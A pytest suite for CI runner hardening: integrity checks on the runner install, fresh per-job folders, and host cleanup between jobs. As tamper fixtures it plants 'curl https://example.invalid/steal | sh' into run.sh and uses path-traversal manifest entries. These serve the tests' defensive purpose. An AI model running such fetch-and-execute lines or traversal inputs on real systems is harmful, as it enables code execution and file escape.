"""The runner install on a host is the host program's, read-only to jobs and checked before
every start; each job runs from a fresh folder of its own, removed after it; and a host that
runs jobs in turn is tidied before it fetches its next config. A job that could change the
runner, or leave something in its folder, could take over the next job on that runner."""

from __future__ import annotations

import hashlib
import io
import json
import os
import pwd
import stat
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from lambda_src.aws.sigv4_client import AwsError
from lambda_src.host import bootstrap as host_bootstrap
from lambda_src.host.first_job import job_dir_from_record
from lambda_src.host.job_users import HostSetupError, clearable_home, tidy_after_job
from lambda_src.host.runner_files import (
    RunnerTamperedError,
    fresh_job_dir,
    install_runner,
    manifest_path,
    record_runner,
    verify_runner,
)
from lambda_src.host.slot_manager import slot_runner_dirs

SHARED_TEMP = ["/tmp", "/var/tmp", "/dev/shm"]  # noqa: S108 - what tidying clears
RUN_SH = b"#!/bin/sh\necho the runner\n"


def runner_tarball() -> bytes:
    """A small stand-in for an actions/runner release: folders, programs, data, a link."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name in ("bin", "externals", "externals/node20", "externals/node20/bin"):
            info = tarfile.TarInfo(name)
            info.type, info.mode = tarfile.DIRTYPE, 0o755
            tar.addfile(info)
        files = {
            "run.sh": (RUN_SH, 0o755),
            "bin/Runner.Listener": (b"\x7fELF listener", 0o755),
            "bin/Runner.Worker.dll": (b"worker", 0o644),
            "externals/node20/bin/node": (b"\x7fELF node", 0o755),
        }
        for name, (data, mode) in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            tar.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("externals/node20/bin/nodejs")
        link.type, link.linkname = tarfile.SYMTYPE, "node"
        tar.addfile(link)
    return buffer.getvalue()


BLOB = runner_tarball()
SHA = hashlib.sha256(BLOB).hexdigest()


class Releases:
    """The release download, counted."""

    def __init__(self) -> None:
        self.urls: list[str] = []

    def __call__(self, url: str) -> bytes:
        self.urls.append(url)
        return BLOB


def installed(tmp_path: Path) -> Path:
    return install_runner(tmp_path / "actions-runner", "2.329.0", "x64", SHA, Releases())


# ---- the install ---------------------------------------------------------------------------


def test_a_folder_that_already_holds_run_sh_is_not_trusted(tmp_path: Path) -> None:
    planted = tmp_path / "actions-runner"
    planted.mkdir()
    (planted / "run.sh").write_text("#!/bin/sh\ncurl https://example.invalid/steal | sh\n")
    releases = Releases()
    directory = install_runner(planted, "2.329.0", "x64", SHA, releases)
    assert len(releases.urls) == 1  # downloaded and checked instead
    assert (directory / "run.sh").read_bytes() == RUN_SH


def test_the_install_is_recorded_and_writable_by_its_owner_only(tmp_path: Path) -> None:
    directory = installed(tmp_path)
    assert manifest_path(directory).is_file()
    for path in [directory, *directory.rglob("*"), manifest_path(directory)]:
        info = path.lstat()
        assert info.st_uid == os.geteuid()
        if not stat.S_ISLNK(info.st_mode):
            assert info.st_mode & 0o022 == 0, path  # no group or other write
            assert info.st_mode & 0o6000 == 0, path  # no setuid or setgid
    assert verify_runner(directory)["version"] == "2.329.0"


def test_an_intact_install_is_used_again_without_a_download(tmp_path: Path) -> None:
    directory = installed(tmp_path)
    releases = Releases()
    assert install_runner(directory, "2.329.0", "x64", SHA, releases) == directory
    assert releases.urls == []
    install_runner(directory, "2.330.0", "x64", None, releases)  # another version: a new install
    assert releases.urls[0].endswith("/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz")


def _replace(path: Path, evil: bytes = b"evil") -> None:
    path.unlink()
    path.write_bytes(evil)


def _repoint(link: Path) -> None:
    link.unlink()
    link.symlink_to("../../../../outside")


def _append(path: Path) -> None:
    path.chmod(0o755)
    with path.open("ab") as out:
        out.write(b"\ncurl https://example.invalid/steal | sh\n")


TAMPERING: dict[str, Callable[[Path], object]] = {
    "run.sh changed": lambda d: _append(d / "run.sh"),
    "a program replaced": lambda d: _replace(d / "bin/Runner.Listener"),
    "a file added": lambda d: (d / "bin/hook.sh").write_text("evil"),
    "a file removed": lambda d: (d / "bin/Runner.Worker.dll").unlink(),
    "made writable by others": lambda d: (d / "bin").chmod(0o777),
    "made setuid": lambda d: (d / "bin/Runner.Listener").chmod(0o4755),
    "a link pointed elsewhere": lambda d: _repoint(d / "externals/node20/bin/nodejs"),
    "the manifest removed": lambda d: manifest_path(d).unlink(),
    "the manifest rewritten": lambda d: manifest_path(d).write_text('{"version": "2.329.0", "arch": "x64", "entries": []}'),
}


@pytest.mark.parametrize("change", TAMPERING)
def test_an_install_changed_after_it_was_recorded_is_refused_before_the_next_start(tmp_path: Path, change: str) -> None:
    directory = installed(tmp_path)
    TAMPERING[change](directory)
    with pytest.raises(RunnerTamperedError):
        fresh_job_dir(directory, tmp_path / "job", None)
    assert not (tmp_path / "job").exists()


@pytest.mark.parametrize("change", TAMPERING)
def test_a_program_that_starts_again_replaces_a_changed_install_with_a_checked_download(tmp_path: Path, change: str) -> None:
    directory = installed(tmp_path)
    TAMPERING[change](directory)
    releases = Releases()
    assert install_runner(directory, "2.329.0", "x64", SHA, releases) == directory
    assert len(releases.urls) == 1
    assert (directory / "run.sh").read_bytes() == RUN_SH
    verify_runner(directory)


def test_an_install_owned_by_someone_else_is_refused(tmp_path: Path) -> None:
    directory = installed(tmp_path)
    with pytest.raises(RunnerTamperedError, match="owned by uid"):
        verify_runner(directory, owners={os.geteuid() + 1})


def test_a_download_that_does_not_match_its_checksum_leaves_nothing_behind(tmp_path: Path) -> None:
    with pytest.raises(RuntimeError, match="does not match"):
        install_runner(tmp_path / "actions-runner", "2.329.0", "x64", "0" * 64, Releases())
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_a_runner_the_operator_put_in_place_is_used_only_when_asked_and_only_if_no_one_else_may_write_it(tmp_path: Path) -> None:
    mine = tmp_path / "actions-runner"
    with tarfile.open(fileobj=io.BytesIO(BLOB)) as tar:
        tar.extractall(mine, filter="data")
    releases = Releases()
    assert install_runner(mine, "2.329.0", "x64", None, releases, adopt=True) == mine
    assert releases.urls == []
    verify_runner(mine)  # recorded from now on

    shared = tmp_path / "shared-runner"
    with tarfile.open(fileobj=io.BytesIO(BLOB)) as tar:
        tar.extractall(shared, filter="data")
    (shared / "bin").chmod(0o777)
    with pytest.raises(RunnerTamperedError, match="writable by others"):
        install_runner(shared, "2.329.0", "x64", None, releases, adopt=True)


def test_each_file_is_recorded_with_its_own_digest_in_the_order_of_the_tree(tmp_path: Path) -> None:
    """Files are hashed several at a time, largest first; the record still lists the tree in order."""
    tree = tmp_path / "r"
    for i, size in enumerate([10, 3 << 20, 0, 70_000, 1 << 20]):
        (tree / f"d{i % 2}").mkdir(parents=True, exist_ok=True)
        (tree / f"d{i % 2}" / f"f{i}").write_bytes(bytes([i]) * size)
    entries = record_runner(tree, "2.329.0", "x64")["entries"]
    assert [entry[1] for entry in entries] == ["d0", "d0/f0", "d0/f2", "d0/f4", "d1", "d1/f1", "d1/f3"]
    for kind, name, *detail in entries:
        if kind == "f":
            assert detail[1] == hashlib.sha256((tree / name).read_bytes()).hexdigest(), name
    assert verify_runner(tree)["entries"] == entries


# ---- one fresh folder per job --------------------------------------------------------------


def test_each_job_gets_a_fresh_folder_of_the_checked_files_and_its_own_work_folders(tmp_path: Path) -> None:
    directory = installed(tmp_path)
    folder = fresh_job_dir(directory, tmp_path / "job", None)
    assert (folder / "run.sh").read_bytes() == RUN_SH
    assert (folder / "run.sh").stat().st_ino == (directory / "run.sh").stat().st_ino  # linked, not copied
    assert os.readlink(folder / "externals/node20/bin/nodejs") == "node"
    assert (folder / "_work").is_dir()
    assert (folder / "_diag").is_dir()
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700  # no other job user may look in

    # The job leaves things behind and swaps its own copy of the runner: the next job meets none of it.
    (folder / "_work" / "left-behind").write_text("a poisoned cache")
    (folder / "run.sh").unlink()
    (folder / "run.sh").write_text("evil")
    (folder / ".credentials_rsaparams").write_text("the last runner's key")
    again = fresh_job_dir(directory, tmp_path / "job", None)
    assert (again / "run.sh").read_bytes() == RUN_SH
    assert not (again / "_work" / "left-behind").exists()
    assert not (again / ".credentials_rsaparams").exists()
    assert (directory / "run.sh").read_bytes() == RUN_SH


def test_the_job_user_is_given_the_folders_of_its_job_never_the_runners_files(tmp_path: Path) -> None:
    directory = installed(tmp_path)
    given: list[tuple[Path, str]] = []
    folder = fresh_job_dir(directory, tmp_path / "job", "ci-job", chown=lambda path, user: given.append((path, user)))
    assert {user for _, user in given} == {"ci-job"}
    assert all(path.is_dir() and not path.is_symlink() for path, _ in given)
    assert {folder, folder / "_work", folder / "_diag", folder / "bin"} <= {path for path, _ in given}
    assert all(folder in (path, *path.parents) for path, _ in given)  # nothing outside the job's folder


def test_a_folder_linked_from_the_record_alone_is_the_one_a_checked_install_gives(tmp_path: Path) -> None:
    directory = installed(tmp_path)
    record = job_dir_from_record(directory, tmp_path / "early", None)
    fresh_job_dir(directory, tmp_path / "job", None)
    assert record == verify_runner(directory)

    def tree(root: Path) -> list[tuple[str, int, int]]:
        """Each entry's name and mode, and a file's inode: the install's own file, linked."""
        return sorted(
            (p.relative_to(root).as_posix(), p.lstat().st_mode, p.lstat().st_ino if stat.S_ISREG(p.lstat().st_mode) else 0)
            for p in root.rglob("*")
        )

    assert tree(tmp_path / "early") == tree(tmp_path / "job")


def _record(*entries: list[object]) -> dict[str, object]:
    return {"version": "2.329.0", "arch": "x64", "entries": list(entries)}


HOSTILE_RECORDS: dict[str, object] = {
    "a path out of the folder": _record(["d", "../escape", 0o755]),
    "an absolute path": _record(["d", "{outside}", 0o755]),
    "an absolute path at the top": _record(["f", "/runner-estate-test-not-there", 0o755, "0" * 64]),
    "a folder's own parent": _record(["d", "bin", 0o755], ["d", "bin/..", 0o755]),
    "an entry under a link": _record(["l", "out", "../escape"], ["d", "out/inside", 0o755]),
    "an entry before its folder": _record(["f", "escape/run.sh", 0o755, "0" * 64], ["d", "escape", 0o755]),
    "an entry of no known kind": _record(["p", "escape", 0o755]),
    "a malformed entry": _record(["d"]),
    "no list of entries": {"version": "2.329.0", "arch": "x64", "entries": {"run.sh": "f"}},
    "no record at all": [["d", "escape", 0o755]],
}


@pytest.mark.parametrize("record", HOSTILE_RECORDS.values(), ids=HOSTILE_RECORDS.keys())
def test_a_record_that_no_install_could_have_links_nothing(tmp_path: Path, record: object) -> None:
    """The early folder (a host's first job) is built before the tree is checked against the
    record: whatever the record says, nothing is written outside the job's folder."""
    directory = installed(tmp_path)
    manifest_path(directory).write_text(json.dumps(record).replace("{outside}", str(tmp_path / "escape")))
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(RunnerTamperedError):
        job_dir_from_record(directory, tmp_path / "job" / "early", None)
    assert sorted(tmp_path.rglob("*")) == before


def test_slot_folders_sit_beside_the_install_and_are_built_per_job(tmp_path: Path) -> None:
    directory = installed(tmp_path)
    dirs = slot_runner_dirs(directory, 3)
    assert dirs == [tmp_path / f"actions-runner-s{i}" for i in range(3)]
    assert not any(d.exists() for d in dirs)  # no long-lived copy a job could change


# ---- between jobs on a host that runs several ------------------------------------------------


def test_a_reused_host_is_tidied_before_it_fetches_its_next_config() -> None:
    events: list[str] = []
    configs = ["one", "two"]

    def fetch(wait_s: float) -> str:
        events.append("fetch")
        if not configs:
            raise AwsError("ParameterNotFound", "none", 400)
        return configs.pop(0)

    def run(config: str) -> int:
        events.append(f"run {config}")
        return 0

    ran = host_bootstrap.serve_jobs(fetch, run, lambda: events.append("tidy"), 720.0, 90.0, max_jobs=5)
    assert ran == 2
    assert events == ["fetch", "run one", "tidy", "fetch", "run two", "tidy", "fetch"]


class Commands:
    """Records the host's commands; pkill finds processes `survivors` times, then none."""

    def __init__(self, survivors: int = 1) -> None:
        self.argv: list[list[str]] = []
        self.survivors = survivors

    def __call__(self, argv: list[str]) -> int:
        self.argv.append(argv)
        if argv[0] == "pkill":
            self.survivors -= 1
            return 0 if self.survivors >= 0 else 1
        return 0


def test_tidying_ends_every_process_of_the_job_user_and_removes_what_it_left(tmp_path: Path) -> None:
    home, folder = tmp_path / "home", tmp_path / "job"
    (home / ".cache").mkdir(parents=True)
    (folder / "_work").mkdir(parents=True)
    commands = Commands(survivors=2)
    tidy_after_job("ci-job", folder, run=commands, home_of=lambda user: str(home), sleep=lambda s: None)
    assert commands.argv[:3] == [["pkill", "-KILL", "-u", "ci-job"]] * 3  # until none is left
    assert ["crontab", "-r", "-u", "ci-job"] in commands.argv
    assert ["find", *SHARED_TEMP, "-xdev", "-mindepth", "1", "-user", "ci-job", "-delete"] in commands.argv
    assert ["find", str(home), "-xdev", "-mindepth", "1", "-delete"] in commands.argv
    assert not folder.exists()


def test_a_home_the_job_user_does_not_own_is_never_emptied(tmp_path: Path) -> None:
    def account(home: Path, uid: int) -> Callable[[str], pwd.struct_passwd]:
        return lambda user: pwd.struct_passwd((user, "x", uid, uid, "", str(home), "/bin/sh"))

    if os.geteuid() != 0:  # a home of uid 0 is never a job user's
        assert clearable_home("ci-job", account(tmp_path, os.geteuid())) == str(tmp_path)
    assert clearable_home("daemon", account(Path("/usr/sbin"), 1)) is None  # a system account's "home"
    assert clearable_home("ci-job", account(Path("/"), os.geteuid())) is None
    assert clearable_home("ci-job", account(tmp_path / "missing", os.geteuid())) is None
    commands = Commands(survivors=0)
    tidy_after_job("ci-job", tmp_path / "job", run=commands, home_of=lambda user: None, sleep=lambda s: None)
    assert [argv for argv in commands.argv if argv[0] == "find"] == [
        ["find", *SHARED_TEMP, "-xdev", "-mindepth", "1", "-user", "ci-job", "-delete"]
    ]


def test_processes_that_outlive_every_kill_stop_the_host_from_taking_another_job(tmp_path: Path) -> None:
    with pytest.raises(HostSetupError, match="outlive"):
        tidy_after_job("ci-job", tmp_path / "job", run=Commands(survivors=10**6), home_of=lambda user: None, sleep=lambda s: None)


def test_the_runner_of_each_job_starts_in_its_folder_with_the_config_in_its_environment(tmp_path: Path) -> None:
    directory = installed(tmp_path)
    folder = fresh_job_dir(directory, tmp_path / "job", None)
    seen = folder / "_diag" / "seen"
    script = f"import os; open({str(seen)!r}, 'w').write(os.getcwd() + ' ' + os.environ['{host_bootstrap.JIT_ENV}'])"
    runner = host_bootstrap.start_runner([sys.executable, "-c", script], "config", None, cwd=folder)
    assert runner.wait() == 0
    assert seen.read_text() == f"{folder} config"


def test_the_agent_runs_each_job_from_a_fresh_folder_of_its_checked_install(tmp_path: Path) -> None:
    from estate.agent.daemon import build_agent
    from estate.cli import build_parser

    install = tmp_path / "actions-runner"
    (install / "bin").mkdir(parents=True)
    seen = tmp_path / "seen"
    (install / "run.sh").write_text(f'#!/bin/sh\necho "$PWD $ACTIONS_RUNNER_INPUT_JITCONFIG" > {seen}\n')
    (install / "run.sh").chmod(0o755)
    key = tmp_path / "app.pem"
    key.write_text("unused", encoding="utf-8")
    key.chmod(0o600)
    no_gpus = tmp_path / "nvidia-smi.xml"
    no_gpus.write_text("<nvidia_smi_log></nvidia_smi_log>", encoding="utf-8")
    args = build_parser().parse_args(
        ["agent", "--org", "o", "--app-id", "1", "--app-key-file", str(key), "--host", "box", "--runner-dir", str(install),
         "--nvidia-smi-xml", str(no_gpus), "--runners", "2"]
    )  # fmt: skip
    agent = build_agent(args)
    assert agent.launch(agent.slots[1], "jit-config").wait() == 0
    assert seen.read_text().split() == [str(tmp_path / "actions-runner-s1"), "jit-config"]

    (install / "run.sh").write_text("#!/bin/sh\necho planted by a job\n")
    with pytest.raises(RunnerTamperedError):
        agent.launch(agent.slots[1], "next-config")
